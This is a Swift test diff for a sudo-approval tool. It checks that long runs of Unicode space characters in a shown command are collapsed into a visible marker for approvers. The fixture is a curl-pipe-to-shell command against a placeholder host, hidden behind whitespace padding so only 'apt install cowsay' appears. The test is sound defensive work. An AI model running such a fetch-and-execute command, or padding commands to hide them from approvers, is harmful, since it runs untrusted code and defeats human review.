@@ -514,6 +514,14 @@ extension SudoRecords.LockoutCheck {
         #expect(!request.pendingLine(waited: 3).contains(padding))
     }
 
+    @Test(arguments: ["\u{3000}", "\u{00A0}", "\u{2003}", "\u{205F}", "\u{1680}", "\u{202F}"])
+    func everySpaceUnicodeHasIsPaddingToo(_ space: String) {
+        let padding = String(repeating: space, count: 2000)
+        let request = ApprovalRequest(id: "ABCDEFGH", requester: "kid", requesterUID: 2001, terminal: "/dev/pts/3",
+                                      shown: "/bin/sh -c 'curl -s x.example | sh;\(padding)#' apt install cowsay")
+        #expect(request.forApprovers == "/bin/sh -c 'curl -s x.example | sh;<2000 blanks>#' apt install cowsay")
+    }
+
     @Test func invisibleCharactersAreWrittenOut() {
         for scalar in ["\u{E0041}", "\u{180E}", "\u{034F}", "\u{FE0F}", "\u{3164}", "\u{2800}", "\u{1D173}"] {
             #expect(Visible.screen("a\(scalar)b") != "a\(scalar)b", "\(scalar.unicodeScalars.first!.value)")
